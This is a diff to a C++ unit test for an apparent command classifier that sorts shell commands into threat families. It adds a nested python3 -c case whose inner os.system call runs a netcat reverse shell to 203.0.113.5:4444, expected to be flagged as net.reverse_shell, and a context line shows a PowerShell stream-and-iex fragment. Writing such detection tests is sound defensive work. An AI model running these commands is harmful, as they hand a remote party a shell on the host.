@@ -328,6 +328,17 @@ TEST_F(FamiliesTest, ScriptsKnownByNameAndInlineDestinations) {
        "$s = $c.GetStream();iex $d\"",
        "net.reverse_shell", kTerminate},
   });
+  // An argv list in inline code: each literal one word; a variable program is computed.
+  Check({
+      {"python3 -c \"import subprocess, sys; subprocess.run([sys.executable, '-c', "
+       "'import os; os.system(\\\"nc -e /bin/sh 203.0.113.5 4444\\\")'])\"",
+       "net.reverse_shell", kTerminate},
+      {"python3 -c \"import subprocess; subprocess.run([cmd, '-x'])\"", "shell.unanalyzable", kBlock},
+  });
+  CheckOrdinary({"python3 -c \"import subprocess, sys; subprocess.run([sys.executable, '-c', 'print(1)'])\"",
+                 "python3 -c \"import subprocess, sys; subprocess.run([sys.executable, '-m', 'pytest', '-q'])\"",
+                 "python3 -c \"import subprocess; print(subprocess.check_output(['git', 'log', '-n', '1']))\""},
+                {"shell.unanalyzable"});
   CheckOrdinary({"python3 setup.py test", "python -c 'print(1, 2)'", "pwsh -c 'Get-ChildItem'",
                  "python3 -c \"print('3.4', 5)\""},
                 {"net.egress", "net.reverse_shell", "net.tunnel"});
